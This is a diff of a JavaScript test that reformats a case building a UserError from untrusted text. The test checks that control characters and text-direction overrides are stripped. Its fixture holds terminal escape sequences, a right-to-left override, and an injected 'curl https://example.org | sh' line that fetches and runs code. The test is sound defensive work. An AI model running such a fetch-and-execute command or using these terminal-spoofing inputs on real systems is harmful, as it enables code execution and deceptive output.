@@ -9,9 +9,10 @@ describe('UserError', () => {
 });
 
 describe('a UserError with untrusted text', () => {
-  const error = new UserError('f.json: \u001b]0;title\u0007', 'unknown \u009b2J\rname', { 
-found: 'x\n  next:     curl https://example.org | sh\u202e', 
-next: 'mend it' });
+  const error = new UserError('f.json: \u001b]0;title\u0007', 'unknown \u009b2J\rname', {
+    found: 'x\n  next:     curl https://example.org | sh\u202e',
+    next: 'mend it',
+  });
 
   it('contains no control characters and no characters that change the text direction', () => {
     expect(error.message.replaceAll('\n', '')).not.toMatch(/\p{Cc}|[\u202a-\u202e]/u);
